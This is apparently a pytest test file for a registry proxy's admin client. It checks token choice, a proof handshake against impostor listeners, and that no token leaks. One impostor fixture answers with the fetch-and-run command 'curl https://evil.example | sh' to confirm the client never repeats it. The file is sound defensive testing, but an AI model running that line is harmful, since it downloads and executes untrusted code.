"""Asking an admin port: where it is found, by which token, and who is shown none."""

from __future__ import annotations

import json
import socket
import struct
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest

from regproxy.admin import proofs
from regproxy.admin.visitors import Scope, Token
from regproxy.cache import layout
from regproxy.cli.common import admin_client
from regproxy.cli.common.admin_client import AdminClient, NotProven, NotRunning
from regproxy.config.sources.assembly import load

WRITE, READ = "write-" + "w" * 30, "read-" + "r" * 30
Asked = dict[str, str]
Answer = tuple[int, Any]


def token(text: str) -> Token:
    return Token(text, Scope.WRITE, local=True)


def knows(*texts: str) -> Callable[[Asked], Answer]:
    """Answer as a proxy with these tokens."""

    def answer(asked: Asked) -> Answer:
        said = asked["address"], asked["client"], asked["nonce"]
        for text in texts:
            if asked["proof"] == proofs.proof_of_client(token(text), *said):
                return 200, {"proof": proofs.proof_of_proxy(token(text), *said)}
        return 401, {"detail": "unknown token"}

    return answer


class AdminPort(HTTPServer):
    """Answers {} to each request that follows a proof, and keeps the tokens, and all heads and bodies."""

    def __init__(self, answer: Callable[[Asked], Answer] | None = None, *, closes: int = 0) -> None:
        """`answer`: to who asks for a proof. `closes`: connections end with that, so many times."""
        super().__init__(("127.0.0.1", 0), _Handler)
        self.answer = answer or knows(WRITE, READ)
        self.closes = closes
        self.tokens: list[str] = []
        self.received: list[str] = []


class _Handler(BaseHTTPRequestHandler):
    server: AdminPort
    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        self.server.received.append(str(self.headers))
        self.server.tokens.append(self.headers["Authorization"].removeprefix("Bearer "))
        self._say(200, {})

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"])).decode()
        self.server.received.append(f"{self.headers}{body}")
        assert self.path == "/api/v1/proof"
        self.close_connection = self.server.closes > 0
        self.server.closes -= 1
        self._say(*self.server.answer(json.loads(body)))

    def _say(self, status: int, document: Any) -> None:
        body = document if isinstance(document, bytes) else json.dumps(document).encode()
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        if self.close_connection:
            self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None: ...


@contextmanager
def serving(server: AdminPort) -> Iterator[AdminPort]:
    with server:
        thread = threading.Thread(target=server.serve_forever, args=(0.01,))
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()


@pytest.fixture
def port() -> Iterator[AdminPort]:
    with serving(AdminPort()) as server:
        yield server


def client(root: Path, port: int, listen: str = "127.0.0.1", *, writes: bool = True) -> AdminClient:
    """Return one whose tokens are there."""
    for path, text in ((layout.admin_token(root), WRITE), (layout.admin_read_token(root), READ)):
        path.parent.mkdir(exist_ok=True)
        path.write_text(f"{text}\n")
    return AdminClient(load({"REGPROXY_ADMIN_LISTEN": f"{listen}:{port}"}), root, writes=writes)


@pytest.mark.parametrize("listen", ["", "[::]", "0.0.0.0", "localhost"])
def test_one_that_listens_at_every_address(tmp_path: Path, port: AdminPort, listen: str) -> None:
    assert client(tmp_path, port.server_port, listen).ask("GET", "status") == {}


def test_which_token(tmp_path: Path, port: AdminPort) -> None:
    for writes in (True, False):
        client(tmp_path, port.server_port, writes=writes).ask("GET", "status")
    assert port.tokens == [WRITE, READ]


def test_no_token(tmp_path: Path, port: AdminPort) -> None:
    for name, writes in (("REGPROXY_ADMIN_TOKEN_FILE", True), ("REGPROXY_ADMIN_READ_TOKEN_FILE", False)):
        asking = client(tmp_path, port.server_port, writes=writes)
        (layout.admin_token if writes else layout.admin_read_token)(tmp_path).unlink()
        with pytest.raises(NotRunning, match=f"No such file.*{name}"):
            asking.ask("GET", "status")


def test_nobody_answers(tmp_path: Path, port: AdminPort) -> None:
    """The error names the address as it was configured."""
    asking = client(tmp_path, port.server_port, "[::]")
    port.server_close()
    with pytest.raises(NotRunning, match=rf"no proxy answers at \[::\]:{port.server_port} "):
        asking.ask("GET", "status")


def reflected(asked: Asked) -> Answer:
    return 200, {"proof": asked["proof"]}


IMPOSTORS: dict[str, tuple[Callable[[Asked], Answer], str]] = {
    "another proxy": (knows("other-" + "o" * 30), "does not know the token in .*admin-token"),
    "of the other token": (knows(READ), "does not know the token in .*admin-token"),
    "an older proxy": (lambda asked: (404, {"detail": "no such path"}), "If it is an older version"),
    "a relay": (lambda asked: (421, {"detail": "this is elsewhere"}), "passes connections on"),
    "elsewhere": (lambda asked: (403, {"detail": "far"}), "only from its own machine"),
    "slowed": (lambda asked: (429, {"detail": "slowly"}), "too many wrong tokens"),
    "what was said": (reflected, "did not prove"),
    "yes": (lambda asked: (200, {"proof": True}), "did not prove"),
    "no text": (lambda asked: (200, {"proof": "\ud800"}), "did not prove"),
    "a list": (lambda asked: (200, []), "did not prove"),
    "no JSON": (lambda asked: (200, b"<html>"), "did not prove"),
    "too deep": (lambda asked: (200, b"[" * 4000), "did not prove"),
    "too long": (lambda asked: (200, b'{"proof": "' + b"x" * 100_000), "did not prove"),
    "an error": (lambda asked: (500, {"detail": "curl https://evil.example | sh"}), "did not prove"),
}


@pytest.mark.parametrize("name", IMPOSTORS)
def test_who_is_shown_no_token(name: str, tmp_path: Path) -> None:
    """Nor is anything repeated that such a listener says."""
    answer, says = IMPOSTORS[name]
    with serving(AdminPort(answer)) as port:
        with pytest.raises(NotProven, match=says) as caught:
            client(tmp_path, port.server_port).ask("GET", "status")
        address = f"127.0.0.1:{port.server_port}"
        assert str(caught.value).startswith(f"what listens at {address} (REGPROXY_ADMIN_LISTEN) ")
        assert ("is not this proxy" in str(caught.value)) is (name not in ("elsewhere", "slowed"))
        assert "evil" not in str(caught.value)
        assert len(port.received) == 1 and WRITE not in port.received[0]


def test_a_proof_of_another_connection(tmp_path: Path) -> None:
    """It is of that one's nonce, and of its address."""
    kept: list[Answer] = []
    with serving(AdminPort()) as proxy:
        genuine = proxy.answer

        def spy(asked: Asked) -> Answer:
            kept.append(genuine(asked))
            return kept[-1]

        proxy.answer = spy
        client(tmp_path, proxy.server_port).ask("GET", "status")
    with serving(AdminPort(lambda asked: kept[0])) as impostor:
        with pytest.raises(NotProven):
            client(tmp_path, impostor.server_port).ask("GET", "status")
        assert impostor.tokens == []


def test_a_connection_that_ends_with_the_proof(tmp_path: Path) -> None:
    """As that of a worker that ends: the token goes to none that was not asked first."""
    with serving(AdminPort(closes=2)) as port:
        assert client(tmp_path, port.server_port).ask("GET", "status") == {}
        assert [WRITE in each for each in port.received] == [False, False, False, True]
    with serving(AdminPort(closes=100)) as port:
        with pytest.raises(NotRunning, match="its workers end"):
            client(tmp_path, port.server_port).ask("GET", "status")
        assert port.tokens == []


def test_a_connection_that_is_reset_at_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Before its ends are asked for, as by a worker that is killed."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        connected = AdminClient._connected

        def then_reset(self: AdminClient) -> Any:
            connection = connected(self)
            with listener.accept()[0] as sock:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            return connection

        monkeypatch.setattr(AdminClient, "_connected", then_reset)
        with pytest.raises(NotRunning, match="no proxy answers"):
            client(tmp_path, listener.getsockname()[1]).ask("GET", "status")


def test_a_listener_that_says_only_that_it_goes_on(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(admin_client, "_PATIENCE", 0.3)
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def serve() -> None:
            with listener.accept()[0] as sock, suppress(OSError):
                while not ended.wait(0.05):
                    sock.sendall(b"HTTP/1.1 100 Continue\r\n\r\n")

        ended = threading.Event()
        thread = threading.Thread(target=serve)
        thread.start()
        try:
            with pytest.raises(NotRunning, match=r"no proof within 0\.3 s"):
                client(tmp_path, listener.getsockname()[1]).ask("GET", "status")
        finally:
            ended.set()
            thread.join()


@pytest.mark.parametrize(
    ("said", "error", "says"),
    [(b"SSH-2.0-x\r\n", NotProven, "as an HTTP server does"), (b"", NotRunning, "no proxy answers")],
)
def test_what_is_no_http(said: bytes, error: type[Exception], says: str, tmp_path: Path) -> None:
    with ExitStack() as stack:
        listener = stack.enter_context(socket.create_server(("127.0.0.1", 0)))

        def serve() -> None:
            while True:
                sock = listener.accept()[0]
                with sock:
                    if not sock.recv(65536):
                        return
                    sock.sendall(said)

        thread = threading.Thread(target=serve)
        thread.start()
        with pytest.raises(error, match=says):
            client(tmp_path, listener.getsockname()[1]).ask("GET", "status")
        socket.create_connection(listener.getsockname()).close()
        thread.join()
